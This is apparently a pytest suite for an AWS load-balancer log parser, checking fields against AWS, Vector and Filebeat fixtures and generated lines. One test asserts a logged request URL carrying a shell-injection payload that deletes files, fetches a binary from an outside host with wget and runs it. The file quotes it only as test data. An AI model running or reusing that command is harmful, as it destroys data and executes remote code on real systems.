"""The ALB line parser against real lines written outside opswatch, and against generated ones."""

from __future__ import annotations

import json
import re
from datetime import datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from chalicelib.alb.fields import EXTRA_FIELDS, FIELDS
from chalicelib.alb.parser import ParseError, parse_line, quick_time, time_ms
from tests.conftest import ALB_DATA


def _lines(name: str) -> list[str]:
    return [ln for ln in (ALB_DATA / name).read_text().splitlines() if ln]


def _split_hostport(v):
    if v is None:
        return None, None
    ip, _, port = v.rpartition(":")
    return ip, int(port)


# --- AWS's documentation examples -------------------------------------------------------

AWS_DOC = _lines("aws_doc_examples_2023-04.log")


def test_every_aws_doc_example_parses_with_all_fields():
    for ln in AWS_DOC:
        rec = parse_line(ln)
        assert tuple(rec) == FIELDS


def test_aws_doc_https_example_field_by_field():
    rec = parse_line(AWS_DOC[1])
    assert rec == {
        "type": "https",
        "time": "2018-07-02T22:23:00.186641Z",
        "elb": "app/my-loadbalancer/50dc6c495c0c9188",
        "client_ip": "192.168.131.39",
        "client_port": 2817,
        "target_ip": "10.0.0.1",
        "target_port": 80,
        "request_processing_time": 0.086,
        "target_processing_time": 0.048,
        "response_processing_time": 0.037,
        "elb_status_code": 200,
        "target_status_code": 200,
        "received_bytes": 0,
        "sent_bytes": 57,
        "request_verb": "GET",
        "request_url": "https://www.example.com:443/",
        "request_proto": "HTTP/1.1",
        "user_agent": "curl/7.46.0",
        "ssl_cipher": "ECDHE-RSA-AES128-GCM-SHA256",
        "ssl_protocol": "TLSv1.2",
        "target_group_arn": "arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067",
        "trace_id": "Root=1-58337281-1d84f3d73c47ec4e58577259",
        "domain_name": "www.example.com",
        "chosen_cert_arn": "arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012",
        "matched_rule_priority": 1,
        "request_creation_time": "2018-07-02T22:22:48.364000Z",
        "actions_executed": "authenticate,forward",
        "redirect_url": None,
        "lambda_error_reason": None,
        "target_port_list": "10.0.0.1:80",
        "target_status_code_list": "200",
        "classification": None,
        "classification_reason": None,
        "conn_trace_id": None,
        "transformed_host": None,
        "transformed_uri": None,
        "request_transform_status": None,
    }


def test_aws_doc_lambda_examples():
    ok, failed = parse_line(AWS_DOC[5]), parse_line(AWS_DOC[6])
    assert ok["target_ip"] is None and ok["target_port"] is None
    assert failed["elb_status_code"] == 502
    assert failed["target_status_code"] is None
    assert failed["lambda_error_reason"] == "LambdaInvalidResponse"
    assert parse_line(AWS_DOC[2])["redirect_url"] == "https://example.com:80/"


def test_every_documented_line_takes_the_fast_path():
    """AWS's own examples once missed the fast regex (they end at classification_reason) and cost 5x."""
    from chalicelib.alb import parser

    before = parser.slow_path_lines
    for ln in AWS_DOC * 3:
        parse_line(ln)
    assert parser.slow_path_lines == before


def test_every_reference_line_but_a_malformed_one_takes_the_fast_path():
    """2018 lines (end at lambda_error_reason), 2020 lines (bare target lists), TID_, IPv6, "-" requests."""
    from chalicelib.alb import parser

    lines = [c["line"] for c in VECTOR] + _lines("elastic_beats_application-lb-http.log")
    lines += _lines("elastic_beats_example-alb-http.log") + _lines("elastic_integrations_test-alb.log")[:2]
    slow = []
    for ln in lines:
        before = parser.slow_path_lines
        parse_line(ln)
        if parser.slow_path_lines != before:
            slow.append(ln)
    # Filebeat's fixture line with no space between a quoted field and the priority ('"-"1').
    assert slow == [FILEBEAT_LINES[4]]


def test_an_empty_quoted_field_is_null_on_both_paths():
    from chalicelib.alb.parser import parse_tokens

    ln = AWS_DOC[1].replace('"curl/7.46.0"', '""').replace('"www.example.com"', '""')
    rec = parse_line(ln)
    assert rec["user_agent"] is None and rec["domain_name"] is None
    assert parse_tokens(ln) == rec


# --- Vector's parser cases ----------------------------------------------------------------

VECTOR = [
    json.loads(ln) for ln in (ALB_DATA / "vectordotdev_vrl_parse_aws_alb_log_cases.jsonl").read_text().splitlines()
]


def _from_vector(exp: dict) -> dict:
    """Vector's names and shapes -> ours (one vocabulary: the Athena column names)."""
    out = {}
    rename = {
        "timestamp": "time",
        "request_method": "request_verb",
        "request_protocol": "request_proto",
        "error_reason": "lambda_error_reason",
        "traceability_id": "conn_trace_id",
    }
    for k, v in exp.items():
        if k == "client_host":
            out["client_ip"], out["client_port"] = _split_hostport(v)
        elif k == "target_host":
            out["target_ip"], out["target_port"] = _split_hostport(v)
        elif k in ("target_port_list", "target_status_code_list"):
            out[k] = " ".join(v) or None
        elif k in ("elb_status_code", "target_status_code", "matched_rule_priority"):
            out[k] = None if v is None else int(v)
        else:
            out[rename.get(k, k)] = v
    return out


@pytest.mark.parametrize("case", VECTOR, ids=[c["name"] for c in VECTOR])
def test_vector_cases_agree_field_by_field(case):
    rec = parse_line(case["line"])
    for name, want in _from_vector(case["expected"]).items():
        assert rec[name] == want, name


def test_vector_trailing_fields_are_the_transform_fields():
    rec = parse_line(VECTOR[12]["line"])  # "thirteen": TID_ then three "-"
    assert rec["conn_trace_id"] == "TID_dc57cebed65b444ebc8177bb698fe166"
    assert rec["transformed_host"] is None and rec["request_transform_status"] is None
    assert EXTRA_FIELDS not in rec


# --- Filebeat's expected fields -------------------------------------------------------------

FILEBEAT_LINES = _lines("elastic_beats_example-alb-http.log")
FILEBEAT_EXPECTED = json.loads((ALB_DATA / "elastic_beats_example-alb-http.log-expected.json").read_text())
FILEBEAT_MAP = {
    "aws.elb.type": "type",
    "aws.elb.name": "elb",
    "source.ip": "client_ip",
    "source.port": "client_port",
    "aws.elb.backend.ip": "target_ip",
    "aws.elb.backend.port": "target_port",
    "aws.elb.request_processing_time.sec": "request_processing_time",
    "aws.elb.backend_processing_time.sec": "target_processing_time",
    "aws.elb.response_processing_time.sec": "response_processing_time",
    "http.response.status_code": "elb_status_code",
    "aws.elb.backend.http.response.status_code": "target_status_code",
    "http.request.body.bytes": "received_bytes",
    "http.response.body.bytes": "sent_bytes",
    "http.request.referrer": "request_url",
    "user_agent.original": "user_agent",
    "aws.elb.ssl_cipher": "ssl_cipher",
    "aws.elb.ssl_protocol": "ssl_protocol",
    "aws.elb.target_group.arn": "target_group_arn",
    "aws.elb.trace_id": "trace_id",
    "aws.elb.chosen_cert.arn": "chosen_cert_arn",
    "aws.elb.matched_rule_priority": "matched_rule_priority",
    "event.start": "request_creation_time",
    "aws.elb.redirect_url": "redirect_url",
    "aws.elb.error.reason": "lambda_error_reason",
    "destination.domain": "domain_name",
}


@pytest.mark.parametrize("i", range(len(FILEBEAT_LINES)))
def test_filebeat_expected_fields_agree(i):
    rec = parse_line(FILEBEAT_LINES[i])
    exp = FILEBEAT_EXPECTED[i]
    checked = 0
    for theirs, ours in FILEBEAT_MAP.items():
        if theirs not in exp:
            continue
        want = exp[theirs]
        want = None if want == "-" else want
        got = rec[ours]
        if isinstance(got, int | float) and isinstance(want, str):
            want = type(got)(want)
        assert got == want, (theirs, ours)
        checked += 1
    assert rec["request_verb"] == (exp["http.request.method"].upper() if "http.request.method" in exp else None)
    assert checked >= 10
    if "aws.elb.action_executed" in exp:  # Filebeat gives up on line 5's tail (see the next test)
        assert ",".join(exp["aws.elb.action_executed"]) == rec["actions_executed"]


def test_line_without_space_between_quoted_field_and_priority():
    """Filebeat's fixture holds ``"-" "-"1 2018-...``; the fields still land where they belong."""
    rec = parse_line(FILEBEAT_LINES[4])
    assert rec["type"] == "wss" and rec["matched_rule_priority"] == 1
    assert rec["request_creation_time"] == "2018-07-02T22:22:48.364000Z"


# --- generations and edge cases -------------------------------------------------------------

BASE = (
    "http 2020-08-27T16:35:00.166351Z app/my-lb/50dc 192.168.131.39:2817 10.0.0.1:80 0.000 0.440 0.000 200 200 "
    '1107 11912 "GET http://example.com:80/path?foo=bar HTTP/1.1" "Fake/1.0.0 (Linux)" - - '
    "arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/t/73e2 "
    '"Root=1-58337262-36d228ad5d99923122bbe354"'
)


def test_original_2016_line_ends_at_trace_id():
    rec = parse_line(BASE)
    assert rec["trace_id"] == "Root=1-58337262-36d228ad5d99923122bbe354"
    assert rec["domain_name"] is None and rec["conn_trace_id"] is None
    assert tuple(rec) == FIELDS


def test_2017_line_ends_at_chosen_cert_arn():
    rec = parse_line(BASE + ' "example.com" "arn:aws:acm:us-east-2:1:certificate/x"')
    assert rec["chosen_cert_arn"] == "arn:aws:acm:us-east-2:1:certificate/x"
    assert rec["matched_rule_priority"] is None


def test_2020_unquoted_target_lists_and_later_quoted_lists_agree():
    tail = ' "-" "-" 0 2020-08-27T16:35:00.000000Z "forward" "-" "-" {lst}'
    unquoted = parse_line(BASE + tail.format(lst='10.0.0.1:80 200 "-" "-"'))
    quoted = parse_line(BASE + tail.format(lst='"10.0.0.1:80" "200" "-" "-"'))
    assert unquoted == quoted
    assert quoted["target_port_list"] == "10.0.0.1:80"


def test_several_targets_in_a_quoted_list():
    rec = parse_line(
        BASE + ' "-" "-" 0 2020-08-27T16:35:00.000000Z "forward" "-" "-" "10.0.0.1:80 10.0.0.2:80" "200 502" "-" "-"'
    )
    assert rec["target_port_list"] == "10.0.0.1:80 10.0.0.2:80"
    assert rec["target_status_code_list"] == "200 502"


def test_future_fields_are_kept_not_rejected():
    full = AWS_DOC[0] + ' TID_1 "h" "/u" "Success" "new-field" 42'
    rec = parse_line(full)
    assert rec["conn_trace_id"] == "TID_1"
    assert rec["transformed_host"] == "h" and rec["request_transform_status"] == "Success"
    assert rec[EXTRA_FIELDS] == ["new-field", "42"]


def test_ipv6_addresses():
    rec = parse_line(VECTOR[10]["line"])
    assert rec["client_ip"] == "2601:6bbc:c529:9dad:6bbc:c529:9dad:6bbc" and rec["client_port"] == 50599
    assert rec["target_ip"] == "fd6d:6bbc:c529:6::face:ed83:f46" and rec["target_port"] == 80


def test_malformed_request_and_minus_one_timings():
    rec = parse_line(VECTOR[8]["line"])
    assert rec["request_verb"] is None and rec["request_proto"] is None
    assert rec["request_url"] == "http://awseb-awseb-1kgu6fbag3fad-640112591.us-east-1.elb.amazonaws.com:80-"
    assert rec["request_processing_time"] == -1 and rec["target_processing_time"] == -1
    assert rec["target_group_arn"] is None and rec["matched_rule_priority"] is None


def test_url_with_space_classification_and_connection_trace():
    lines = _lines("elastic_integrations_test-alb.log")
    rec = parse_line(lines[1])
    assert rec["request_url"] == "http://127.0.0.1:80/shell?cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws"
    assert rec["classification"] == "Acceptable" and rec["classification_reason"] == "SpaceInUri"
    assert parse_line(lines[-1])["conn_trace_id"] == "TID_00000000000000000000000000000000"


def test_nlb_and_connection_log_lines_are_rejected_with_a_reason():
    lines = _lines("elastic_integrations_test-alb.log")
    reasons = []
    for ln in lines[2:-1]:
        with pytest.raises(ParseError) as exc:
            parse_line(ln)
        reasons.append(exc.value.reason)
    assert all(r.startswith(("field 1 (type)", "field 2 (time)")) for r in reasons), reasons


def test_escaped_quotes_and_hex_escapes():
    ln = (
        AWS_DOC[0]
        .replace('"curl/7.46.0"', r'"Mozilla \"quoted\" \x80 agent"')
        .replace("http://www.example.com:80/", r"http://www.example.com:80/caf\xc3\xa9")
    )
    rec = parse_line(ln)
    assert rec["user_agent"] == r'Mozilla "quoted" \x80 agent'
    assert rec["request_url"] == r"http://www.example.com:80/caf\xc3\xa9"
    assert rec["target_port_list"] == "10.0.0.1:80"


def test_none_cipher():
    rec = parse_line(AWS_DOC[1].replace("ECDHE-RSA-AES128-GCM-SHA256", "(NONE)"))
    assert rec["ssl_cipher"] == "(NONE)"


@pytest.mark.parametrize(
    ("line", "reason"),
    [
        ("", "empty line"),
        ("   ", "empty line"),
        ("http", "truncated line: ends after field 1 (type)"),
        (AWS_DOC[0][:120], "truncated line"),
        (AWS_DOC[0].replace("2018-07-02T22:23:00.186641Z", "yesterday", 1), "field 2 (time)"),
        (AWS_DOC[0].replace(" 200 200 ", " 2000 200 ", 1), "field 9 (elb_status_code)"),
        (AWS_DOC[0].replace("192.168.131.39:2817", "192.168.131.39", 1), "field 4 (client)"),
        (AWS_DOC[0].replace(" 0.001 ", " fast ", 1), "field 7 (target_processing_time)"),
        (AWS_DOC[0].replace('"-" "-" 0 ', '"-" "-" x ', 1), "field 21 (matched_rule_priority)"),
        (AWS_DOC[0][: AWS_DOC[0].index('"Root')] + '"Root=1', "unbalanced double quote"),
        (AWS_DOC[0].replace("2018-07-02T22:23:00", "2018-13-45T22:23:00", 1), None),
    ],
)
def test_bad_lines_say_where_and_why(line, reason):
    with pytest.raises(ParseError) as exc:
        rec = parse_line(line)
        time_ms(rec["time"])  # an impossible date is caught when the time is read
    if reason:
        assert exc.value.reason.startswith(reason), exc.value.reason
    else:
        assert "time" in exc.value.reason


def test_time_ms_and_quick_time():
    assert time_ms("2018-07-02T22:23:00.186641Z") == 1530570180186
    assert time_ms("2018-07-02T22:23:00Z") == 1530570180000
    assert quick_time(AWS_DOC[0]) == 1530570180186
    with pytest.raises(ParseError, match="field 1"):
        quick_time("2024-10-04T17:05:15.514108Z 192.168.131.39 36280 443 TLSv1.2")


# --- properties ---------------------------------------------------------------------------------

_tok = st.text(
    alphabet=st.characters(min_codepoint=33, max_codepoint=126, exclude_characters='"\\'), min_size=1, max_size=20
)
_qtok = st.text(
    alphabet=st.characters(min_codepoint=32, max_codepoint=0x2FFF, exclude_characters='"\\\n\r'), max_size=40
)
_ip = st.one_of(st.ip_addresses(v=4).map(str), st.ip_addresses(v=6).map(str))
_secs = st.one_of(st.just(-1.0), st.integers(0, 10**6).map(lambda n: n / 1000))
_code = st.one_of(st.none(), st.integers(100, 599))


@st.composite
def records(draw):
    rec = {
        "type": draw(st.sampled_from(["http", "https", "h2", "grpcs", "ws", "wss"])),
        "time": draw(
            st.datetimes(datetime(2000, 1, 1), datetime(2099, 12, 31)).map(
                lambda d: d.strftime("%Y-%m-%dT%H:%M:%S.%fZ")
            )
        ),
        "elb": "app/" + draw(_tok.filter(lambda s: " " not in s)),
        "client_ip": draw(_ip),
        "client_port": draw(st.integers(0, 65535)),
    }
    has_target = draw(st.booleans())
    rec["target_ip"] = draw(_ip) if has_target else None
    rec["target_port"] = draw(st.integers(0, 65535)) if has_target else None
    for f in ("request_processing_time", "target_processing_time", "response_processing_time"):
        rec[f] = draw(_secs)
    rec["elb_status_code"] = draw(_code)
    rec["target_status_code"] = draw(_code)
    rec["received_bytes"] = draw(st.integers(0, 10**12))
    rec["sent_bytes"] = draw(st.integers(0, 10**12))
    rec["request_verb"] = draw(st.sampled_from(["GET", "POST", "DELETE"]))
    rec["request_url"] = "https://example.com:443/" + draw(_tok)
    rec["request_proto"] = draw(st.sampled_from(["HTTP/1.1", "HTTP/2.0"]))
    rec["user_agent"] = draw(st.one_of(st.none(), _qtok.filter(lambda s: s not in ("-", ""))))
    for f in ("ssl_cipher", "ssl_protocol", "target_group_arn"):
        rec[f] = draw(st.one_of(st.none(), _tok.filter(lambda s: s != "-")))
    for f in FIELDS[21:]:
        if f == "matched_rule_priority":
            rec[f] = draw(st.one_of(st.none(), st.integers(0, 50000)))
        elif f == "conn_trace_id":
            rec[f] = draw(st.one_of(st.none(), _tok.filter(lambda s: s != "-").map(lambda s: "TID_" + s)))
        elif f == "request_creation_time":
            rec[f] = rec["time"]
        else:
            rec[f] = draw(st.one_of(st.none(), _qtok.filter(lambda s: s not in ("-", ""))))
    return rec


def render(rec: dict) -> str:
    """Write a record the way ALB does."""

    def b(v):
        return "-" if v is None else str(v)

    def q(v):
        return '"' + b(v) + '"'

    def hp(ip, port):
        return "-" if ip is None else f"{ip}:{port}"

    def secs(v):
        return "-1" if v == -1 else f"{v:.3f}"

    parts = [
        rec["type"],
        rec["time"],
        rec["elb"],
        hp(rec["client_ip"], rec["client_port"]),
        hp(rec["target_ip"], rec["target_port"]),
        secs(rec["request_processing_time"]),
        secs(rec["target_processing_time"]),
        secs(rec["response_processing_time"]),
        b(rec["elb_status_code"]),
        b(rec["target_status_code"]),
        b(rec["received_bytes"]),
        b(rec["sent_bytes"]),
        q(f"{rec['request_verb']} {rec['request_url']} {rec['request_proto']}"),
        q(rec["user_agent"]),
        b(rec["ssl_cipher"]),
        b(rec["ssl_protocol"]),
        b(rec["target_group_arn"]),
        q(rec["trace_id"]),
        q(rec["domain_name"]),
        q(rec["chosen_cert_arn"]),
        b(rec["matched_rule_priority"]),
        rec["request_creation_time"],
    ]
    parts += [q(rec[f]) for f in FIELDS[26:33]]
    parts += [b(rec["conn_trace_id"])] + [q(rec[f]) for f in FIELDS[34:]]
    return " ".join(parts)


@settings(max_examples=300, deadline=None)
@given(records())
def test_any_well_formed_line_parses_back_to_its_fields(rec):
    assert parse_line(render(rec)) == rec


@settings(max_examples=500, deadline=None)
@given(st.binary(max_size=600))
def test_random_bytes_never_raise_anything_but_parse_error(data):
    text = data.decode("utf-8", "replace")
    try:
        rec = parse_line(text)
        time_ms(rec["time"])
    except ParseError as exc:
        assert exc.reason and "\n" not in exc.reason


@settings(max_examples=300, deadline=None)
@given(records(), st.integers(0, 400), st.text(max_size=5))
def test_damaged_lines_parse_or_are_rejected(rec, cut, junk):
    ln = render(rec)
    damaged = ln[:cut] + junk + ln[cut + len(junk) :]
    try:
        parse_line(damaged)
    except ParseError as exc:
        assert re.match(r"(field \d+|truncated|unbalanced|empty|the request)", exc.reason), exc.reason


def test_fast_path_and_general_path_agree():
    """The one-regex fast path must give exactly what the token-by-token path gives."""
    from chalicelib.alb.parser import _FULL, parse_tokens
    from chalicelib.embedded.albtraffic import lines

    samples = AWS_DOC + [c["line"] for c in VECTOR] + _lines("elastic_integrations_test-alb.log")[:2]
    samples += list(lines(3000, 1.7e9))
    fast = 0
    for ln in samples:
        fast += _FULL.match(ln) is not None
        assert parse_line(ln) == parse_tokens(ln), ln
    assert fast >= 3000  # the generated modern lines all take the fast path


@settings(max_examples=300, deadline=None)
@given(records())
def test_generated_lines_agree_on_both_paths(rec):
    from chalicelib.alb.parser import parse_tokens

    ln = render(rec)
    assert parse_line(ln) == parse_tokens(ln) == rec
